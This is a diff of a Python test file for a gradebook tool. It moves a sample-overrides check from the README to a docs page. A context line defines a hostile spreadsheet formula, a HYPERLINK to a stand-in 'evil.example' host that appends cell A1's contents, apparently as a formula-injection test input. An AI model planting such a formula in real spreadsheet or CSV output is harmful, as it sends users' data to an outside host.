@@ -27,7 +27,7 @@ from grader.batch.staff_overrides import check, parse
 GOLDEN = Path(__file__).resolve().parent / "fixtures" / "gradebook"
 FAST = ["--cell-timeout", "4", "--call-timeout", "2", "--seed", "7"]
 HOSTILE = '=HYPERLINK("evil.example?"&A1,"x")'
-SAMPLE_OVERRIDES = ROOT / "examples" / "overrides.csv"   # the README's sample, used by the class below
+SAMPLE_OVERRIDES = ROOT / "examples" / "overrides.csv"   # the docs' sample, used by the class below
 MOODLE_TIME = "%A, %d %B %Y, %I:%M %p UTC"   # Moodle's userdate() format, in UTC
 
 
@@ -114,9 +114,9 @@ def test_the_sample_overrides_file_parses_and_names_students_of_the_sample_class
     assert [o["points"] for o in overrides] == [2.0, -1.0]
     resolved = check(overrides, {"222": "leeann", "31": "Bo Chen", "111": "doejane"}, 25)
     assert [o["student"] for o in resolved] == ["222", "31"]
-    readme = (ROOT / "README.md").read_text()
+    page = (ROOT / "docs" / "grading-a-class.md").read_text()
     assert "```csv\n" + "".join(f"  {line}\n" for line in SAMPLE_OVERRIDES.read_text().splitlines()) in \
-        readme.replace("\n  ```csv\n", "\n```csv\n"), "the README's sample is not examples/overrides.csv"
+        page.replace("\n  ```csv\n", "\n```csv\n"), "the docs' sample is not examples/overrides.csv"
 
 
 def moodle_seconds(written: str) -> int:
